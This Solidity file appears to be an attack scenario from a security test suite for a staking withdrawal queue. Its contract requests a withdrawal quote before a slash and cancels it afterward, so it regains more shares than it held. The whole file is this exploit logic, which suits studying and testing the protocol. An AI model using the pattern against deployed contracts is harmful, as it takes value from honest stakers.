// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {Exploit, Scene} from "../Exploit.sol";

/// @title Asked out before the slash, back in after it
/// @notice Holds a quote while the slash passes, and turns it into more shares than there were.
contract CancelAtQuote is Exploit {
    uint256 private _ticket;

    constructor(Scene memory scene) payable Exploit(scene) {}

    /// @inheritdoc Exploit
    function turn(uint256 number) external override {
        if (number == 0) _ticket = _request(_shares());
        if (number == 1) queue.cancel(_ticket, address(this));
    }
}
